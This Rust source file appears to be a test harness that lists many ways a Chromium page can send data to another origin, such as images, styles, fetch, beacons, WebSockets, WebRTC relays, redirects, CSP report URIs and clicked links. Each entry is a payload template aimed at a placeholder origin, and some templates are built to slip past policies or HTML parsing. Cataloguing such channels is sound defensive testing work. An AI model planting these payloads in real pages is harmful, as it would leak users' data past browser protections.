//! Ways for a page to carry data to another origin.

/// How the data is seen to arrive where nobody holds it back.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Means {
    /// As a request whose line holds the way's name.
    Request,
    /// As a connection: an address may carry data in its host name alone.
    Connection,
    /// This Chromium does not go this way, or what it sends cannot be seen here (a name that is only resolved).
    NotHere,
}

/// One way: an answer of the service, in which `{to}` stands for the other origin with the way's name, `{origin}` for the
/// other origin alone, and `{script}` and `{worker}` for scripts of the own origin that send it there.
pub struct Way {
    pub name: &'static str,
    pub means: Means,
    /// Whether it needs a click on `#go`.
    pub click: bool,
    status: u16,
    headers: &'static [&'static str],
    body: &'static str,
}

impl Way {
    /// The address of the page at `from`, which says whatever it is asked for.
    pub fn address(&self, from: &str, to: &str) -> String {
        let fill = |text: &str| {
            let own = |script: &str| say(from, 200, &["content-type:text/javascript".to_owned()], script);
            let target = format!("{to}/{}?data=5ABC123", self.name);
            let script = format!("fetch('{target}',{{mode:'no-cors'}})");
            text.replace("{to}", &target)
                .replace("{rest}", target.trim_start_matches('h'))
                .replace("{origin}", to)
                .replace("{turn}", &to.replace("http://", "turn:"))
                .replace("{ws}", &target.replace("http:", "ws:"))
                .replace("{script}", &own(&script))
                .replace("{worker}", &own(&format!("self.{script}")))
        };
        let mut headers: Vec<_> = self.headers.iter().map(|header| fill(header)).collect();
        if !headers.iter().any(|header| header.starts_with("content-type:")) {
            headers.push("content-type:text/html".to_owned());
        }
        say(from, self.status, &headers, &fill(self.body))
    }
}

/// The address at `from` that answers with this.
pub fn say(from: &str, status: u16, headers: &[String], body: &str) -> String {
    let mut query = url::form_urlencoded::Serializer::new(String::new());
    query.append_pair("status", &status.to_string());
    for header in headers {
        query.append_pair("header", header);
    }
    query.append_pair("body", body);
    format!("{from}/say?{}", query.finish())
}

const fn page(name: &'static str, body: &'static str) -> Way {
    Way {
        name,
        means: Means::Request,
        click: false,
        status: 200,
        headers: &[],
        body,
    }
}

const fn clicked(name: &'static str, body: &'static str) -> Way {
    Way {
        click: true,
        ..page(name, body)
    }
}

const fn header(name: &'static str, headers: &'static [&'static str], body: &'static str) -> Way {
    Way {
        headers,
        ..page(name, body)
    }
}

const fn redirect(name: &'static str, status: u16) -> Way {
    Way {
        status,
        ..header(name, &["location:{to}"], "")
    }
}

const fn connecting(way: Way) -> Way {
    Way {
        means: Means::Connection,
        ..way
    }
}

const fn not_here(way: Way) -> Way {
    Way {
        means: Means::NotHere,
        ..way
    }
}

pub const WAYS: &[Way] = &[
    // What the answer's head says.
    header(
        "own-policy",
        &["content-security-policy:default-src *; script-src * 'unsafe-inline'; img-src *"],
        "<img src={to}>",
    ),
    header(
        "two-policies",
        &[
            "content-security-policy:default-src *",
            "content-security-policy:img-src * data:; sandbox allow-scripts",
        ],
        "<img src={to}>",
    ),
    header(
        "report-uri",
        &["content-security-policy:img-src 'none'; report-uri {to}"],
        "<img src=/x.png>",
    ),
    header(
        "report-only",
        &["content-security-policy-report-only:img-src 'none'; report-uri {to}"],
        "<img src=/x.png>",
    ),
    redirect("redirect-301", 301),
    redirect("redirect-302", 302),
    redirect("redirect-303", 303),
    redirect("redirect-307", 307),
    redirect("redirect-308", 308),
    header("refresh-header", &["refresh:0; url={to}"], "ok"),
    header("preload-header", &["link:<{to}>; rel=preload; as=image"], "ok"),
    connecting(header(
        "preconnect-header",
        &["link:<{origin}>; rel=preconnect"],
        "ok",
    )),
    not_here(header(
        "speculation-header",
        &["speculation-rules:\"{to}\""],
        "ok",
    )),
    // What loads by itself.
    page("image", "<img src={to}>"),
    page("image-set", "<img srcset='{to} 1x'>"),
    page("image-button", "<form><input type=image src={to}></form>"),
    page("background", "<body background={to}>"),
    page("style-url", "<style>body{background:url({to})}</style>"),
    page("style-import", "<style>@import '{to}';</style>"),
    page(
        "style-attribute",
        "<p style=\"list-style:url({to});display:list-item\">x",
    ),
    page("style-link", "<link rel=stylesheet href={to}>"),
    page(
        "font",
        "<style>@font-face{font-family:f;src:url({to})}p{font-family:f}</style><p>x",
    ),
    page("audio", "<audio src={to} preload=auto></audio>"),
    page("video-poster", "<video poster={to}></video>"),
    page("script-link", "<script src={to}></script>"),
    page("iframe", "<iframe src={to}></iframe>"),
    page("object", "<object data={to}></object>"),
    page("embed", "<embed src={to}>"),
    page("svg-image", "<svg><image href={to} /></svg>"),
    page("base", "<base href='{origin}/base/'><img src=x.png>"),
    page(
        "meta-policy",
        "<meta http-equiv=content-security-policy content='img-src *'><img src={to}>",
    ),
    page(
        "meta-refresh",
        "<meta http-equiv=refresh content='0; url={to}'>ok",
    ),
    page("preload", "<link rel=preload as=image href={to}>"),
    not_here(page("prefetch", "<link rel=prefetch href={to}>")),
    not_here(page("prerender", "<link rel=prerender href={to}>")),
    not_here(page("dns-prefetch", "<link rel=dns-prefetch href={to}>")),
    not_here(page("manifest", "<link rel=manifest href={to}>")),
    not_here(page("icon", "<link rel=icon href={to}>")),
    connecting(page("preconnect", "<link rel=preconnect href={to}>")),
    connecting(page(
        "preconnect-in-frame",
        "<iframe srcdoc='&lt;link rel=preconnect href={to}&gt;'></iframe>",
    )),
    not_here(connecting(page(
        "preconnect-without-scripts",
        "<noscript><link rel=preconnect href={to}></noscript>",
    ))),
    // What a script does.
    page("fetch", "<script>fetch('{to}',{mode:'no-cors'})</script>"),
    page("fetch-in-a-file", "<script src='{script}'></script>"),
    page(
        "xhr",
        "<script>x=new XMLHttpRequest;x.open('GET','{to}');x.send()</script>",
    ),
    page("beacon", "<script>navigator.sendBeacon('{to}','x')</script>"),
    page("event-source", "<script>new EventSource('{to}')</script>"),
    page("web-socket", "<script>new WebSocket('{ws}')</script>"),
    page("script-image", "<script>new Image().src='{to}'</script>"),
    page("location", "<script>location='{to}'</script>"),
    page("handler", "<img src=x: onerror=\"location='{to}'\">"),
    page("worker", "<script>new Worker('{worker}')</script>"),
    not_here(page(
        "service-worker",
        "<script>navigator.serviceWorker.register('{worker}',{scope:'/'})</script>",
    )),
    not_here(page(
        "web-rtc",
        "<script>c=new RTCPeerConnection({iceTransportPolicy:'relay',iceServers:[{urls:'{turn}?transport=tcp',username:'x',\
         credential:'x'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))</script>",
    )),
    not_here(page(
        "speculation",
        "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"{to}\"],\"eagerness\":\"immediate\"}]}</script>",
    )),
    // What a person does.
    clicked("link", "<a id=go href={to}>x</a>"),
    not_here(clicked(
        "link-in-a-window",
        "<a id=go target=_blank href={to}>x</a>",
    )),
    clicked("ping", "<a id=go ping={to} href=/>x</a>"),
    clicked("spelt-link", "<a id=go href='&#104;{rest}'>x</a>"),
    clicked(
        "svg-link",
        "<svg><a id=go xlink:href={to}><text y=20>x</text></a></svg>",
    ),
    clicked(
        "svg-animation",
        "<svg><a id=go><set attributeName=href to={to} /><text y=20>x</text></a></svg>",
    ),
    clicked(
        "link-behind-a-style",
        "<svg/><style></b x=\"</style><a id=go href={to}>x</a>\">",
    ),
    not_here(clicked(
        "link-without-scripts",
        "<noscript><a id=go href={to}>x</a></noscript>",
    )),
    clicked(
        "form-get",
        "<form action={to}><input name=q value=1><button id=go>x</button></form>",
    ),
    clicked(
        "form-post",
        "<form action={to} method=post><button id=go>x</button></form>",
    ),
    clicked(
        "form-button",
        "<form><button id=go formmethod=post formaction={to}>x</button></form>",
    ),
    clicked(
        "window",
        "<button id=go onclick=\"window.open('{to}')\">x</button>",
    ),
    // What is a page by another name.
    header(
        "xhtml",
        &["content-type:application/xhtml+xml"],
        "<html xmlns='http://www.w3.org/1999/xhtml'><img src='{to}'/></html>",
    ),
    header(
        "svg",
        &["content-type:image/svg+xml"],
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='{to}'/></svg>",
    ),
    not_here(header("no-type", &["content-type:"], "<html><img src={to}>")),
];
